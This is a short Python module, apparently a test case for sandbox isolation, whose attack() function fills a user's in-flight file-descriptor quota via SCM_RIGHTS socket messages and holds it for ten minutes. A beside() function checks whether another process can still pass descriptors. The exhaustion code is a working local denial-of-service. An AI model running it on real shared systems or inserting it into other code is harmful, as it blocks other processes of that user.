"""Puts all descriptors in flight that its user may have there, so that nobody else of that user can pass one.

stopped by: users, seccomp
"""

import array
import os
import socket
import time


def attack():
    null = os.open("/dev/null", os.O_RDONLY)
    kept = []
    try:
        for _ in range(200):
            pair = socket.socketpair()
            kept.append(pair)
            for _ in range(8):
                ancillary = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null] * 250))]
                pair[0].sendmsg([b"x"], ancillary)
    except OSError:
        pass
    print("holding", flush=True)
    time.sleep(600)


def beside():
    one, other = socket.socketpair()
    try:
        socket.send_fds(one, [b"x"], [0])
        return f"{len(socket.recv_fds(other, 1, 1)[1])} passed"
    except OSError as error:
        return error.errno
